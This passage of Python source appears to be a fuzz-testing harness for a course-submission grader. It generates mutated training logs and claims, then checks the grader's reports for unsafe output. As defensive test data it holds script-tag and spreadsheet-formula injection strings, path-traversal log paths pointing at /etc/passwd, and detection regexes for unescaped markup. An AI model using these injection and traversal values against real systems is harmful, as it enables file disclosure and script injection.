    for _ in range(rng.choice([0, 0, 0, 1, 1, 2])):
        text, what = rng.choice(JSON_TEXT_OPS)(rng, text)
        ops.append(what)
    data = text.encode("utf-8", "surrogatepass")
    if rng.random() < 0.1:
        data, what = _json_bytes(rng, data)
        ops.append(what)
    return data, ops


def _chart_text(rng: random.Random, records: list[dict], key: str | None = None, run: str | None = None,
                several: bool | None = None, quote: bool | None = None) -> tuple[str, str]:  # fmt: skip
    """A W&B chart's "Export CSV": `Step,<run> - <key>,<run> - <key>__MIN,<run> - <key>__MAX` for one key of the
    history (its rows that hold it); the run's name hostile now and then, or a chart of several runs."""
    keys = sorted({k for r in records for k in r if not k.startswith("_")}) or ["train/loss"]
    key = _draw(key, lambda: rng.choice(keys))
    run = _draw(run, lambda: rng.choice(["sgd-constant", "run-1"] * 3 + HOSTILE_TEXT))
    others = ["b", "c", "<script>x</script>", "=1+1"]
    runs = [run] + (rng.sample(others, rng.randint(1, 2)) if _draw(several, lambda: rng.random() < 0.1) else [])
    head = ["Step"] + [f"{r} - {key}{s}" for r in runs for s in ("", "__MIN", "__MAX")]
    cell = lambda v: "" if v is None else repr(v) if isinstance(v, float) else str(v)  # noqa: E731
    rows = [[cell(r.get("_step")), *[cell(r[key])] * (3 * len(runs))] for r in records if key in r]
    quoting = csv.QUOTE_ALL if _draw(quote, lambda: rng.random() < 0.5) else csv.QUOTE_MINIMAL
    what = f"W&B chart export of {len(runs)} run(s), key {key[:40]!r}, run {run[:40]!r}"
    return _join([head, *rows], quoting=quoting), what


def form_log(rng: random.Random, c: Curves, form: str) -> tuple[dict[str, bytes], str, list[str]]:
    """A log as a tool exports it (`form`: wandb, hf, tbparse), its records, file, text and bytes mutated: the
    files {path in the submission: bytes}, the path its entry's logs names, and what was done."""
    if form == "wandb":
        records, how = wandb_records(rng, c)
        ops = [how, *_records_mutated(rng, records, "_step")]
        shape = rng.choice(["csv", "csv", "csv", "csv json", "chart"])
        if shape == "chart":
            text, what = _chart_text(rng, records)
            data, more = csv_mutation(rng, text)
            rel = rng.choice(FORM_NAMES["chart"])
            ops += [what, *more]
        elif shape == "csv json":
            obj = records if rng.random() < 0.7 else {k: [r.get(k) for r in records] for r in records for k in r}
            data, more = _json_text(rng, obj)
            rel = rng.choice(FORM_NAMES["wandb json"])
            ops += [f"as JSON {'records' if isinstance(obj, list) else 'columns'}", *more]
        else:
            data, more = csv_mutation(rng, _records_csv(records, index=rng.random() < 0.7))
            rel = rng.choice(FORM_NAMES["wandb"])
            ops += ["as pandas CSV", *more]
    elif form == "hf":
        records, how = hf_records(rng, c)
        ops = [how, *_records_mutated(rng, records, "step")]
        shape = rng.choice(["json", "state", "state", "csv"])
        if shape == "csv":
            data, more = csv_mutation(rng, _records_csv(records))
            rel = rng.choice(FORM_NAMES["hf csv"])
        else:
            obj = records
            if shape == "state":
                top = {"best_metric": None, "epoch": float(len(c.epoch)), "global_step": len(c.step),
                       "log_history": records, "max_steps": len(c.step), "num_train_epochs": len(c.epoch)}  # fmt: skip
                if rng.random() < 0.15:  # its other fields hostile
                    top[rng.choice(["global_step", "best_model_checkpoint", "trial_name"])] = rng.choice(HOSTILE_TEXT)
                obj = top
            data, more = _json_text(rng, obj)
            rel = rng.choice(FORM_NAMES["hf state" if shape == "state" else "hf json"])
        ops += [f"as {shape}", *more]
    else:
        header, rows, how = tbparse_rows(rng, c)
        if rng.random() < 0.2:  # a tag more: hostile, long, or another course's
            tag = rng.choice(HOSTILE_TAGS + ["Accuracy/train", "LR/train/pg1", "hparams/lr"])
            header = [*header, tag]
            rows = [[*r, rng.choice(["", "0.5", rng.choice(HOSTILE_NUMBERS)])] for r in rows]
            how += f", a tag {tag[:40]!r}"
        if rng.random() < 0.2:  # a tag left out
            j = rng.randrange(2, len(header))
            how += f", tag {header[j]!r} left out"
            header, rows = header[:j] + header[j + 1 :], [r[:j] + r[j + 1 :] for r in rows]
        if rng.random() < 0.2:
            header, rows, how = header[1:], [r[1:] for r in rows], how + ", no index"
        data, more = csv_mutation(rng, _join([header, *rows]))
        rel = rng.choice(FORM_NAMES["tbparse"])
        ops = [how, *more]
    return {rel: data[: 9 * 2**20]}, rel, [f"{form} file {rel}", *ops]


def honest_forms(c: Curves) -> dict[str, tuple[str, bytes]]:
    """HONEST_FORMS: {variant: (the file's path in the submission, its bytes)}, the honest run's log as each tool
    exports it (every choice fixed: no draw is random)."""
    rng = random.Random(0)
    wb = dict(extra=False, sample=False, names="namespaced")
    own, _ = wandb_records(rng, c, separate=True, calls=True, **wb)
    same, _ = wandb_records(rng, c, separate=False, calls=True, **wb)
    hf, _ = hf_records(rng, c, ahead=False, summary=True)
    ahead, _ = hf_records(rng, c, ahead=True, summary=True)
    header, rows, _ = tbparse_rows(rng, c, at_step=False)
    state = {"epoch": float(len(c.epoch)), "global_step": len(c.step), "log_history": hf}
    chart, _ = _chart_text(rng, same, key="train/loss", run="sgd-1", several=False, quote=True)
    return {
        HONEST_FORMS[0]: ("logs/history.csv", _records_csv(own).encode()),
        HONEST_FORMS[1]: ("logs/history.csv", _records_csv(same, index=False).encode()),
        HONEST_FORMS[2]: ("logs/history.json", json.dumps(own).encode()),
        HONEST_FORMS[3]: ("logs/chart.csv", chart.encode()),
        HONEST_FORMS[4]: ("trainer_state.json", json.dumps(state, indent=2).encode()),
        HONEST_FORMS[5]: ("logs/log_history.json", json.dumps(ahead).encode()),
        HONEST_FORMS[6]: ("logs/log_history.csv", _records_csv(hf).encode()),
        HONEST_FORMS[7]: ("logs/scalars.csv", _join([header, *rows]).encode()),
    }


HONEST_FORMS = [
    "W&B history CSV, the evaluation in its own wandb.log call",
    "W&B history CSV, the evaluation in the step's call, no index",
    "W&B history JSON records",
    "W&B chart export (Step, run - key, __MIN, __MAX)",
    "HF trainer_state.json",
    "HF log_history.json, LR one step ahead (older transformers)",
    "HF log_history DataFrame CSV",
    "tbparse pivot CSV of the course's tags",
]


# ---------------------------------------------------------------- level 3: the entry's claims and kind


def claim_mutation(rng: random.Random, seed: str, entry: dict, claims: dict, c: Curves) -> tuple[dict, list[str]]:
    spec, ops = SEEDS[seed], []
    entry = {**entry, **claims}
    for _ in range(rng.choice([0, 0, 1, 1, 2])):
        if spec["part"] == "range_test":
            how = rng.choice(["drop", "near", "far", "tiny", "huge", "rule", "pair", "refuse", "exact"])
            base = entry.get("claimed_lr") or claims.get("claimed_lr") or 0.01
            base = base[0] if isinstance(base, list) else base
            if how == "drop":
                entry.pop("claimed_lr", None)
            elif how == "near":
                entry["claimed_lr"] = float(f"{base * rng.choice([1.02, 0.98, 1.1, 1.25]):.3g}")
            elif how == "far":
                entry["claimed_lr"] = base * rng.choice([3, 0.1, 100])
            elif how == "tiny":
                entry["claimed_lr"] = rng.choice([1e-300, 5e-324, 1e-45])
            elif how == "huge":
                entry["claimed_lr"] = rng.choice([1e300, 1e30, 10.0])
            elif how == "rule":
                entry["rule"] = rng.choice(["min", "min/10", "steepest", "valley", "range"])
            elif how == "pair":
                entry["claimed_lr"] = [base / 10, base]
            elif how == "refuse":
                entry["epochs"] = 11
            elif how == "exact":
                entry["claimed_lr"] = base
        else:
            how = rng.choice(
                [
                    "drop_acc",
                    "drop_loss",
                    "drop_both",
                    "percent",
                    "near",
                    "far",
                    "earlier",
                    "tiny",
                    "edge",
                    "refuse",
                    "seed",
                    "nan_loss",
                    "digits",
                ]
            )
            accs = [a for a in c.test_accuracy if isinstance(a, float) and math.isfinite(a)] or [0.9]
            losses = [v for v in c.test_loss if isinstance(v, float) and math.isfinite(v)] or [0.3]
            if how.startswith("drop"):
                for k in {"drop_acc": ["claimed_test_accuracy"], "drop_loss": ["claimed_test_loss"]}.get(
                    how, ["claimed_test_accuracy", "claimed_test_loss"]
                ):
                    entry.pop(k, None)
            elif how == "percent":
                entry["claimed_test_accuracy"] = round(accs[-1] * 100, 2)
            elif how == "near":
                entry["claimed_test_accuracy"] = round(accs[-1] + rng.choice([5e-5, -5e-5, 0.001, -0.005]), 4)
                entry["claimed_test_loss"] = round(losses[-1] * rng.choice([1.0001, 0.999, 1.05]), 4)
            elif how == "far":
                entry["claimed_test_accuracy"] = rng.choice([0.1, 0.5, 0.999])
                entry["claimed_test_loss"] = rng.choice([0.001, 5.0, 100.0])
            elif how == "earlier" and len(accs) > 1:
                entry["claimed_test_accuracy"] = round(accs[0], 4)
                entry["claimed_test_loss"] = round(losses[0], 4)
            elif how == "tiny":
                entry["claimed_test_accuracy"] = rng.choice([1e-300, 0.0, 5e-324])
                entry["claimed_test_loss"] = rng.choice([1e-300, 0.0, 5e-324])
            elif how == "edge":
                entry["claimed_test_accuracy"] = rng.choice([1.0, 100.0, 1.0000001, 99.99, 100.5, -0.0])
                entry["claimed_test_loss"] = rng.choice([1e300, 0.0, 2.302585])
            elif how == "refuse":
                entry["epochs"] = rng.choice([2, 4])
            elif how == "seed":
                if "seed" in entry:
                    entry.pop("seed")
                else:
                    entry["seed"] = spec["seed"]
            elif how == "nan_loss":
                entry["claimed_test_loss"] = math.nan
            elif how == "digits":
                entry["claimed_test_accuracy"] = round(accs[-1], rng.choice([1, 2, 6]))
        ops.append(f"claims: {how}")
    return entry, ops


# ---------------------------------------------------------------- a case


@dataclass
class Case:
    seed: str
    entry: dict  # the submission's one entry, logs included
    files: dict[str, bytes | None]  # relative to the submission folder (None: a 9 MiB sparse file)
    ops: list[str]
    quick: bool = False
    setup: dict = field(default_factory=dict)
    fmt: str = ""  # csv, tb or json: the log's format as generated

    def toml(self) -> str:
        return submission_toml(
            self.seed, SEEDS[self.seed]["part"], self.entry, {**SEEDS[self.seed].get("setup", {}), **self.setup}
        )

    def size(self) -> int:
        return sum(len(b or b"") for b in self.files.values())


def log_format(rng: random.Random, spec: dict, formats: tuple[str, ...]) -> str:
    """The format a case's log is written in: JSON in JSON_SHARE of the cases (where `formats` holds it), else the
    seed's own format half the time, CSV or TensorBoard the other half. Without json no JSON draw is made: the cases
    of `--formats csv,tb` are those of the runs before JSON logs. A tool's export (FORMS: W&B, Hugging Face, tbparse)
    in FORMS_SHARE of the cases where `formats` holds one, drawn first: `--formats csv,tb,json` gives the cases of the
    runs before them (benchmarks/results/fuzz_logs_seed3.txt)."""
    forms = tuple(f for f in formats if f in FORMS)
    if forms and (len(forms) == len(formats) or rng.random() < FORMS_SHARE):
        return rng.choice(forms)
    formats = tuple(f for f in formats if f not in FORMS)
    if "json" in formats and (formats == ("json",) or rng.random() < JSON_SHARE):
        return "json"
    fmt = spec["format"] if rng.random() < 0.5 else rng.choice(["csv", "tb"])
    return fmt if fmt in formats else next(f for f in formats if f != "json")


def make_case(rng: random.Random, seeds: dict[str, dict], formats: tuple[str, ...] = LOG_FORMATS) -> Case:
    """One generated case: a seed, its curves mutated, written as CSV, TensorBoard, JSON or a tool's export (W&B,
    Hugging Face, tbparse; mutated), claims mutated."""
    name = rng.choice(sorted(seeds))
    spec, seed = SEEDS[name], seeds[name]
    other = seeds[rng.choice(sorted(seeds))]["curves"]
    curves, ops = curve_mutation(rng, seed["curves"], other)
    fmt = log_format(rng, spec, formats)
    if fmt in FORMS:
        files, logs, more = form_log(rng, curves, fmt)
        ops += more
    elif fmt == "json":
        data, more = json_log(rng, curves)
        rel = rng.choice(["logs/run.json"] * 6 + ["logs/history", "logs/run.JSON", "logs/lr_finder.txt", "hist.json"])
        files, logs = {rel: data}, rel
        ops += [f"JSON file {rel}", *more]
    elif fmt == "csv":
        data, more = csv_mutation(rng, csv_text(curves))
        rel = rng.choice(["logs/run.csv"] * 8 + ["logs/run.CSV", "logs/run.txt", "run.csv"])
        files, logs = {rel: data}, rel
        ops += [f"CSV file {rel}", *more]
    else:
        tb, more = tb_files(rng, curves)
        files = {f"logs/tb/{k}": v for k, v in tb.items()}
        logs = rng.choice(["logs/tb"] * 6 + ["logs/tb/", "logs"])
        if len(tb) == 1 and rng.random() < 0.2:
            logs = f"logs/tb/{next(iter(tb))}"  # the event file itself
        ops += [f"TensorBoard at {logs}", *more]
    entry, more = claim_mutation(rng, name, seed_entry(name), seed["claims"], curves)
    entry["logs"] = logs
    if rng.random() < 0.03:
        entry["logs"] = rng.choice(
            ["logs/missing.csv", "logs/../../etc/passwd", "/etc/passwd", "logs\\run.csv", "C:/x.csv", "logs/./run.csv"]
        )
        more.append(f"logs path {entry['logs']!r}")
    return Case(name, entry, files, ops + more, quick=rng.random() < 0.15, fmt=fmt)


def honest_case(seeds: dict[str, dict], name: str, variant: str) -> Case:
    """A named, harmless formatting variation of a seed's honest log (for the report's message review)."""
    rng = random.Random(f"honest:{name}:{variant}")
    seed = seeds[name]
    c = seed["curves"].copy()
    entry = {**seed_entry(name), **seed["claims"]}
    text = csv_text(c)
    rows = _rows(text)
    csvs = {
        "BOM": "\ufeff" + text,
        "CRLF": text.replace("\n", "\r\n"),
        "Excel CSV UTF-8 (BOM + CRLF)": "\ufeff" + text.replace("\n", "\r\n"),
        "semicolon-separated": _join(rows, ";"),
        "tab-separated": _join(rows, "\t"),
        "every cell quoted": _join(rows, quoting=csv.QUOTE_ALL),
        "spaces after commas": _join([[x if j == 0 else " " + x for j, x in enumerate(r)] for r in rows]),
        "header in capitals": _join([[x.upper() for x in rows[0]], *rows[1:]]),
        "pandas index column": _join([["", *rows[0]], *[[str(k), *r] for k, r in enumerate(rows[1:])]]),
        "integer columns as floats (pandas)": _join(
            [rows[0], *[[f"{float(x):.1f}" if j in (0, 3) and x else x for j, x in enumerate(r)] for r in rows[1:]]]
        ),
        "accuracy with a % sign": _join(
            [rows[0], *[[*r[:5], f"{100 * float(r[5]):.1f}%" if r[5] else ""] for r in rows[1:]]]
        ),
        "accuracy in percent": _join(
            [rows[0], *[[*r[:5], f"{100 * float(r[5]):.2f}" if r[5] else ""] for r in rows[1:]]]
        ),
        "decimal commas, semicolons (EU Excel)": _join([[x.replace(".", ",") for x in r] for r in rows], ";"),
        "a trailing comma on every line": "".join(line + ",\n" for line in text.splitlines()),
        "columns reordered": _join([[r[j] for j in (0, 3, 1, 2, 4, 5)] for r in rows]),
        "an extra wall_time column": _join(
            [[*r, "wall_time" if k == 0 else str(1.7e9 + k)] for k, r in enumerate(rows)]
        ),
        "steps counted from 1": csv_text(replace_curves(c, step=[s + 1 for s in c.step])),
        "every 10th step": csv_text(_sparse_every(c, 10, 0)),
        "every 5th step from step 5 (1-based)": csv_text(_sparse_every(c, 5, 4, shift=1)),
        "an evaluation before training (epoch 0)": csv_text(_epoch0(rng, c.copy(), c)[0]),
        "LR logged after scheduler.step()": csv_text(_ahead(rng, c.copy(), c)[0]),
        "a blank line at the end": text + "\n",
        "common column names (global_step, learning_rate, loss, val_loss, val_acc)": _join(
            [["global_step", "learning_rate", "loss", "epoch", "val_loss", "val_acc"], *rows[1:]]
        ),
        "no step column, pandas' index": _join(
            [["", *rows[0][1:]], *[[str(k), *r[1:]] for k, r in enumerate(rows[1:])]]
        ),
        "scientific notation in capitals": _join([rows[0], *[[x.upper() for x in r] for r in rows[1:]]]),
    }
    jsons, forms = honest_jsons(rng, c), honest_forms(c)
    if variant in forms:
        rel, data = forms[variant]
        files, entry["logs"] = {rel: data}, rel
    elif variant in csvs:
        files = {"logs/run.csv": csvs[variant].encode("utf-8")}
        entry["logs"] = "logs/run.csv"
    elif variant in jsons:
        rel, data = jsons[variant]
        files, entry["logs"] = {rel: data}, rel
    else:
        tb, _ = tb_files(rng, c, mutate=False)
        name_ = next(iter(tb))
        body = records(tb[name_])
        layouts = {
            "TensorBoard runs/<date> sub-folder": {f"Jan01_00-00-00_host/{name_}": tb[name_]},
            "TensorBoard resumed run (two files)": {
                name_: tb[name_],
                "events.out.tfevents.1700000500.h.1.0": body[0] + b"".join(body[len(body) // 2 :]),
            },
            "TensorBoard TF2 tensor scalars (Keras, tf.summary.scalar)": tb_files_kind(c, "tensor"),
            "TensorBoard with an hparams sub-folder": {name_: tb[name_], f"1700000900.1/{name_}": body[0]},
            "TensorBoard event file named directly": {name_: tb[name_]},
        }
        files = {f"logs/tb/{k}": v for k, v in layouts[variant].items()}
        entry["logs"] = f"logs/tb/{name_}" if variant.endswith("directly") else "logs/tb"
    return Case(name, entry, files, [f"honest: {variant}"])


HONEST_CSV = [
    "BOM",
    "CRLF",
    "Excel CSV UTF-8 (BOM + CRLF)",
    "semicolon-separated",
    "tab-separated",
    "every cell quoted",
    "spaces after commas",
    "header in capitals",
    "pandas index column",
    "integer columns as floats (pandas)",
    "accuracy with a % sign",
    "accuracy in percent",
    "decimal commas, semicolons (EU Excel)",
    "a trailing comma on every line",
    "columns reordered",
    "an extra wall_time column",
    "steps counted from 1",
    "every 10th step",
    "every 5th step from step 5 (1-based)",
    "an evaluation before training (epoch 0)",
    "LR logged after scheduler.step()",
    "a blank line at the end",
    "scientific notation in capitals",
    "common column names (global_step, learning_rate, loss, val_loss, val_acc)",
    "no step column, pandas' index",
]
HONEST_TB = [
    "TensorBoard runs/<date> sub-folder",
    "TensorBoard resumed run (two files)",
    "TensorBoard TF2 tensor scalars (Keras, tf.summary.scalar)",
    "TensorBoard with an hparams sub-folder",
    "TensorBoard event file named directly",
]


HONEST_JSON = [
    "JSON columns (json.dump(history), null where not logged)",
    "JSON columns indented (json.dump(history, f, indent=2))",
    "JSON records (to_json(orient='records'))",
    "JSON records, a key left out where not logged",
    "JSON records, common names (global_step, learning_rate, loss, val_loss, val_acc)",
    "JSON columns, names learning_rate, train_loss, test_acc",
    "JSON columns, TensorBoard tags as keys (LR/train, Loss/train, …)",
    "JSON LR finder history {lr, loss}: no step, the position read as one",
    "JSON columns in a file without a suffix (logs/history)",
    "JSON records in a .txt (logs/history.txt)",
    "JSON with a UTF-8 BOM",
    "JSON columns, integers as floats (step 0.0)",
    "JSON records, an evaluation before training (epoch 0)",
    "JSON records, steps counted from 1",
]
# honest JSON a framework writes that docs/evidence.md does not promise to read: graded and shown, not counted
HONEST_JSON_OTHER = [
    "JSON DataFrame.to_json() default (orient='columns': index keys)",
    "JSON to_json(orient='split')",
    "JSON DataFrame.to_dict('list') dumped (NaN where not logged)",
    "JSON a history of per-step and per-epoch lists (unequal lengths)",
]


def honest_jsons(rng: random.Random, c: Curves) -> dict[str, tuple[str, bytes]]:
    """HONEST_JSON and HONEST_JSON_OTHER: {variant: (the file's path in the submission, its bytes)}."""

    def dump(names="course", layout="columns", curves=c, indent=None, fix=lambda v: v, shape=lambda o: o) -> bytes:
        header, rows = json_rows(curves, JSON_NAMES[names] if isinstance(names, str) else names)
        obj = json_object(header, [[fix(v) for v in r] for r in rows], layout)
        return json.dumps(shape(obj), indent=indent).encode()

    own = {"step": "step", "lr": "learning_rate", "train_loss": "train_loss", "epoch": "epoch",
           "test_loss": "test_loss", "test_accuracy": "test_acc"}  # fmt: skip
    js = "logs/run.json"
    return {
        HONEST_JSON[0]: (js, dump()),
        HONEST_JSON[1]: (js, dump(indent=2)),
        HONEST_JSON[2]: (js, dump(layout="records")),
        HONEST_JSON[3]: (js, dump(layout="sparse records")),
        HONEST_JSON[4]: (js, dump("common", "records")),
        HONEST_JSON[5]: (js, dump(own)),
        HONEST_JSON[6]: (js, dump("tensorboard tags")),
        HONEST_JSON[7]: (js, dump("lr_finder")),
        HONEST_JSON[8]: ("logs/history", dump()),
        HONEST_JSON[9]: ("logs/history.txt", dump(layout="records")),
        HONEST_JSON[10]: (js, b"\xef\xbb\xbf" + dump()),
        HONEST_JSON[11]: (js, dump(fix=lambda v: float(v) if isinstance(v, int) else v)),
        HONEST_JSON[12]: (js, dump(layout="records", curves=_epoch0(rng, c.copy(), c)[0])),
        HONEST_JSON[13]: (js, dump(layout="records", curves=replace_curves(c, step=[s + 1 for s in c.step]))),
        HONEST_JSON_OTHER[0]: (js, dump(shape=_index_keys)),
        HONEST_JSON_OTHER[1]: (js, dump(shape=_split)),
        HONEST_JSON_OTHER[2]: (js, dump(fix=lambda v: math.nan if v is None else v)),
        HONEST_JSON_OTHER[3]: (js, dump(shape=lambda o: {k: [x for x in v if x is not None] for k, v in o.items()})),
    }  # fmt: skip


def _index_keys(columns: dict) -> dict:
    """DataFrame.to_json()'s default layout (orient="columns"): each column an object keyed by the row's index."""
    return {k: {str(i): x for i, x in enumerate(v)} for k, v in columns.items()}


def _split(columns: dict) -> dict:
    n = max((len(v) for v in columns.values()), default=0)
    return {
        "columns": list(columns),
        "index": list(range(n)),
        "data": [list(r) for r in zip(*columns.values(), strict=False)],
    }


def replace_curves(c: Curves, **kw) -> Curves:
    return replace(c.copy(), **kw)


def _sparse_every(c: Curves, k: int, first: int, shift: int = 0) -> Curves:
    keep = list(range(first, _n(c), k))
    return replace_curves(
        c,
        step=[c.step[i] + shift for i in keep],
        lr=[c.lr[i] for i in keep],
        train_loss=[c.train_loss[i] for i in keep],
    )


def tb_files_kind(c: Curves, kind: str) -> dict[str, bytes]:
    body = [record(event(1.7e9, version="brain.Event:2"))]
    body += [record(event(w, s, t, v, kind=kind)) for w, s, t, v in tb_events(c)]
    return {"events.out.tfevents.1700000000.host.1234.0": b"".join(body)}


# ---------------------------------------------------------------- grading one case and checking its outputs


class Hang(BaseException):
    """Raised by the alarm: not an Exception, so no `except Exception` in the grader can swallow it."""


def _alarm(signum, frame) -> None:
    raise Hang


def write_case(case: Case, root: Path) -> Path:
    """The class folder `root` holding assignment.toml and the one submission s1 (written afresh)."""
    shutil.rmtree(root, ignore_errors=True)
    folder = root / "s1"
    folder.mkdir(parents=True)
    (root / "assignment.toml").write_text(ASSIGNMENT)
    (folder / "submission.toml").write_text(case.toml())
    for rel, data in case.files.items():
        path = folder / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        if data is None:
            with open(path, "wb") as f:
                f.truncate(9 * 2**20)
        else:
            path.write_bytes(data)
    return folder


CONTROL = re.compile(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff]")
FORMULA = ("=", "+", "-", "@", "\t", "\r")
# the hostile strings' markup, as it would appear unescaped (Markdown escapes with a backslash, HTML with entities)
MARKUP = re.compile(r"(?<!\\)<\s*script|(?<!\\)<img src=x", re.IGNORECASE)
MD_LINK = re.compile(r"(?<!\\)\[x(?<!\\)\]\(http://e\)")  # a link in Markdown (HTML shows it as text)


def unsafe_outputs(out: Path, terminal: str) -> list[str]:
    """Every output a student or instructor sees, checked: a list of 'file: what' problems (empty: safe)."""
    problems = []

    def control(name: str, text: str, allowed: str = "\n") -> None:
        for m in CONTROL.finditer(text):
            if m.group() not in allowed:
                i = m.start()
                problems.append(f"{name}: raw control character {m.group()!r} in …{text[max(0, i - 60) : i + 40]!r}")
                return

    for path in sorted(out.rglob("*")):
        if not path.is_file():
            continue
        name = str(path.relative_to(out))
        text = path.read_text(errors="replace")
        if path.suffix in (".md", ".html"):
            control(name, text)
            if m := MARKUP.search(text) or (path.suffix == ".md" and MD_LINK.search(text)):
                i = m.start()
                problems.append(f"{name}: unescaped markup {m.group()!r} in …{text[max(0, i - 60) : i + 60]!r}")
        elif path.suffix == ".json":
            try:
                data = json.loads(text, parse_constant=_no_constant)
            except ValueError as err:
                problems.append(f"{name}: not valid JSON ({err})")
                continue
            for s in _strings(data):
                if CONTROL.search(s.replace("\n", "")):
                    problems.append(f"{name}: a string with a raw control character: {s[:160]!r}")
                    break
        elif path.suffix == ".csv":
            for r, row in enumerate(csv.reader(io.StringIO(text, newline=""))):
                for cell in row:
                    if cell.startswith(FORMULA) or CONTROL.search(cell):
                        problems.append(f"{name} row {r + 1}: unsafe cell {cell[:120]!r}")
    control("terminal", terminal)
    return problems


def _no_constant(name: str):
    raise ValueError(f"{name} in JSON")


def _strings(x):
    if isinstance(x, str):
        yield x
    elif isinstance(x, dict):
        for k, v in x.items():
            yield from _strings(k)
            yield from _strings(v)
    elif isinstance(x, list):
        for v in x:
            yield from _strings(v)


def grade(root: Path, cache: Path, quick: bool):
    """grade_class on the one submission in `root`, reports to root/reports; (result, terminal text)."""
    from grader.commands import print_checks, print_class
    from grader.grade import grade_class

    result = grade_class(
        root,
        folders=[root / "s1"],
        out=root / "reports",
        quick=quick,
        cache_dir=cache,
        device="cpu",
        engine="sequential",
        jobs=1,
        progress=False,
    )
    buf = io.StringIO()
    with contextlib.redirect_stdout(buf):
        print_checks(result.students[0])
        print_class(result, root / "reports", "grade class")
    return result, buf.getvalue()


def signature(tb: str, exc: str) -> str:
    """A crash class: the exception type and the innermost frame in grader/ or reference/ (else the innermost)."""
    frames = re.findall(r'File "([^"]+)", line (\d+), in (\S+)', tb)
    ours = [f for f in frames if "/grader/" in f[0] or "/reference/" in f[0]]
    ours = ours or [f for f in frames if "/benchmarks/" in f[0]] or frames or [("?", "0", "?")]
    f = ours[-1]
    name = next((g[2] for g in reversed(ours) if g[0] == f[0] and not g[2].startswith("<")), f[2])  # not <genexpr>
    where = re.sub(r".*/(grader|reference|benchmarks)/", r"\1/", f[0])
    last = tb.strip().splitlines()[-1] if tb.strip() else ""
    message = re.sub(r"\d+", "N", last.split(": ", 1)[1] if ": " in last else "")[:70]  # csv.Error has several
    return f"{exc} in {where} {name}(): {message}"


def traceback_of_internal(root: Path, cache: Path, quick: bool) -> tuple[str, str]:
    """Grade again with the class's guard off: the traceback of the bug behind an "internal grader error"."""
    import grader.grade as gg

    guarded = gg._guarded
    gg._guarded = lambda x, a, grade: grade()
    try:
        grade(root, cache, quick)
        return "", "no exception the second time"
    except Exception as err:  # noqa: BLE001
        return traceback.format_exc(), type(err).__name__
    finally:
        gg._guarded = guarded


def traceback_of_load(folder: Path) -> tuple[str, str]:
    """The traceback of a grader bug the loading boundary caught (Loaded.internal)."""
    from grader.load import _fractions, _load, load_assignment
    from grader.logs import gather

    try:
        x = _load(folder, "s1", load_assignment(folder.parent), "folder")
        sub, _ = _fractions(x.submission)
        gather(folder, sub)
        return "", "no exception the second time"
    except Exception as err:  # noqa: BLE001
        return traceback.format_exc(), type(err).__name__


def run_case(case: Case, work: Path, cache: Path, timeout: float = TIMEOUT_S) -> dict:
    """Write, grade and check one case: {outcome, detail, signature, seconds, logs (the logs check's message)}."""
    root = work / "class"
    folder = write_case(case, root)
    old = signal.signal(signal.SIGALRM, _alarm)
    signal.setitimer(signal.ITIMER_REAL, timeout)
    t = time.perf_counter()
    out = {"outcome": "", "detail": "", "signature": "", "seconds": 0.0, "logs": "", "messages": []}
    try:
        try:
            result, terminal = grade(root, cache, case.quick)
        except Hang:
            raise
        except MemoryError:
            out.update(outcome="memory", detail="MemoryError")
            return out
        except Exception as err:  # noqa: BLE001 - an exception out of grade_class stops the whole class
            tb = traceback.format_exc()
            out.update(
                outcome="crash",
                detail=f"{type(err).__name__}: {str(err)[:300]}",
                traceback=tb,
                signature=signature(tb, type(err).__name__) + " [escaped grade_class]",
            )
            return out
        out["seconds"] = time.perf_counter() - t
        s = result.students[0]
        logs_msgs = [c.message for c in s.checks if c.check == "logs"]
        out["logs"] = logs_msgs[0] if logs_msgs else ""
        out["messages"] = [
            f"{c.status.upper()} {c.check}: {c.message}"
            for c in s.checks
            if c.check in ("logs", "lr_claim", "accuracy_claim", "loss_claim")
        ]
        out["warnings"] = [w for w in s.warnings if "logs" in w]
        for marker, where, find in (("internal grader error", "internal grader error",
                                     lambda: traceback_of_internal(root, cache, case.quick)),
                                    ("internal error", "caught at the loading boundary",
                                     lambda: traceback_of_load(folder))):  # fmt: skip
            if s.error and marker in s.error:
                tb, exc = find()
                out.update(outcome="crash", detail=s.error[:400], traceback=tb,
                           signature=f"{signature(tb, exc)} [{where}]")  # fmt: skip
                return out
        problems = unsafe_outputs(root / "reports", terminal)
        lines = [*(c.message for c in s.checks), *s.warnings, s.error or ""]
        problems += [f"a message of several lines or unprintable: {m[:200]!r}" for m in lines if not m.isprintable()]
        if problems:
            kind = re.sub(r"[0-9]+|….*|'.*", "", problems[0])[:80]
            out.update(outcome="unsafe", detail=problems[0][:400], signature=f"unsafe: {kind}")
            return out
        if s.status == "error":
            out.update(outcome="refused", detail=s.error[:300])
        elif out["logs"].startswith("Logs not used"):
            out.update(outcome="refused", detail=out["logs"][:300])
        else:
            out.update(outcome="accepted", detail=out["logs"][:300])
        return out
    except Hang:
        out.update(outcome="hang", detail=f"over {timeout:g} s", signature="hang", seconds=time.perf_counter() - t)
        return out
    finally:
        signal.setitimer(signal.ITIMER_REAL, 0)
        signal.signal(signal.SIGALRM, old)


def run_checked(case: Case, work: Path, cache: Path) -> dict:
    """`run_case`, and once more where it took over HANG_S (the first time may have run a counterfactual rerun
    into the cache): a hang only if the second time is over HANG_S too."""
    r = run_case(case, work, cache)
    if r["outcome"] in ("accepted", "refused", "unsafe") and r["seconds"] > HANG_S:
        again = run_case(case, work, cache)
        if again["seconds"] > HANG_S:
            r.update(outcome="hang", detail=f"{again['seconds']:.1f} s with a warm cache", signature="hang (slow)")
        r["seconds"] = again["seconds"]
    return r


# ---------------------------------------------------------------- minimal reproductions (delta debugging)


def ddmin(items: list, fails, budget: int) -> list:
    """The smallest sublist (1-minimal, within `budget` tries) for which `fails` still holds."""
    n, tries = 2, 0
    while len(items) >= 2 and tries < budget:
        chunk = math.ceil(len(items) / n)
        parts = [items[i : i + chunk] for i in range(0, len(items), chunk)]
        reduced = False
        for i in range(len(parts)):
            rest = [x for j, p in enumerate(parts) if j != i for x in p]
            tries += 1
            if rest and fails(rest):
                items, n, reduced = rest, max(n - 1, 2), True
                break
            if tries >= budget:
                break
        if not reduced:
            if n >= len(items):
                break
            n = min(len(items), 2 * n)
    return items


def minimize(case: Case, sig: str, work: Path, cache: Path, budget: int = 60) -> Case:
    """The case with as few CSV lines / event records (and files) as still give crash class `sig`."""

    def same(c: Case) -> bool:
        r = run_case(c, work, cache, timeout=TIMEOUT_S)
        return r["signature"] == sig

